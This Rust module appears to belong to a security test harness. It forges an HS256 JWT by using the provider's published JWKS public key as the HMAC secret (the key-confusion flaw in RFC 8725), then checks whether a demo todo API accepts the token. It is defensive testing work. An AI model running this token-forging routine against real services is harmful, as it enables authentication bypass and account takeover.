//! Key confusion: the provider signs with an asymmetric key whose public
//! half anyone can read in its JWKS. An API that lets the token choose
//! its algorithm will check an HS256 token with that public key as the
//! HMAC secret, and the attacker can compute that HMAC.
//!
//! RFC 8725 §2.1: "an attacker [could] use the public key […] as an
//! HMAC shared secret"; §3.1: "each key MUST be used with exactly one
//! algorithm".

use crate::attack::{Attack, Context, Finding, Place, Rule};
use crate::browser::Browser;
use crate::{flow, forge};

pub const ATTACK: Attack = Attack {
    id: "hs256-key-confusion",
    title: "HS256 key confusion: the public key as an HMAC secret",
    rule: Rule { label: "RFC 8725 §2.1, §3.1", url: "https://www.rfc-editor.org/rfc/rfc8725#section-3.1" },
    enforced_in: "todo-api/src/auth/jwt.rs",
    place: Place::Server,
    run: |context| Box::pin(run(context)),
    summary: "The attacker fetches the provider's JWKS and signs a token with HS256, using the published key \
              (its JWK JSON, exactly as served) as the HMAC secret, under the provider's own kid.",
};

/// The HMAC secret the attack uses for a published key: the key's JSON.
pub fn confused_secret(jwk: &serde_json::Value) -> Vec<u8> {
    jwk.to_string().into_bytes()
}

async fn run(context: Context) -> anyhow::Result<Finding> {
    let attacker = Browser::new("attacker", &context.transcript);
    let jwks_url = format!("{}/.well-known/jwks.json", context.config.provider_public_url);
    let jwks = attacker.get(&jwks_url).await?.json().unwrap_or_default();
    let jwk = jwks["keys"].get(0).cloned().ok_or_else(|| anyhow::anyhow!("the JWKS has no key"))?;
    let kid = jwk["kid"].as_str().map(str::to_owned);
    let claims = forge::access_token_claims(&context.config, "attacker");
    let token = forge::hs256(kid.as_deref(), &claims, &confused_secret(&jwk))?;
    let answer = flow::present_token(&attacker, &context, "The forged token", &token).await?;
    Ok(flow::api_verdict(&answer, "an HS256 token keyed with the public key"))
}
